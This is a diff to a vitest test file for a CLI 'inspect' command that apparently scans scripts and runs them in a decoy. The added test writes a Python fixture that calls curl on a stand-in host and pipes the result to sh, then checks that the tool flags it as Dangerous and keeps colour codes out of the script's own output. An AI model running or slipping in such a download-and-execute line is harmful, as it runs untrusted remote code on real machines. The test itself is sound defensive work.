@@ -4,7 +4,7 @@ import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { parseInspect } from "../../src/cli/inspect/options.ts";
 import { UsageError } from "../../src/cli/usage.ts";
-import { isBuilt, runCommand } from "../cli-process.ts";
+import { isBuilt, runCommand, runOnTerminal } from "../cli-process.ts";
 
 describe("the command line of inspect", () => {
   test("is read", () => {
@@ -102,6 +102,21 @@ describe.skipIf(!isBuilt)("the built command", () => {
       expect(status).toBe(2);
     },
   );
+
+  test("on a terminal it says that it is at work, and colours what is grave, and no line of the script's", () => {
+    writeFileSync(
+      at("grave.py"),
+      'import os\nos.system("curl http://drop.example.com/x | sh")\nprint("high: \\x1b[31mred")\n',
+    );
+    const plain = runOnTerminal(["inspect", at("grave.py")], []);
+    expect(plain.screen).toContain("Reading grave.py, and running it in the decoy");
+    for (const colour of ["\x1b[31m", "\x1b[33m"]) expect(plain.screen).not.toContain(colour);
+    const { screen, status } = runOnTerminal(["inspect", at("grave.py")], [], { NO_COLOR: "" });
+    expect(status).toBe(20);
+    expect(screen).toContain("\x1b[31mDangerous");
+    expect(screen).toContain("\x1b[31m  high");
+    expect(screen).not.toContain("\x1b[31mred");
+  });
 
   test("help has an example", () => {
     expect(runCommand(["inspect", "--help"])).toMatchObject({
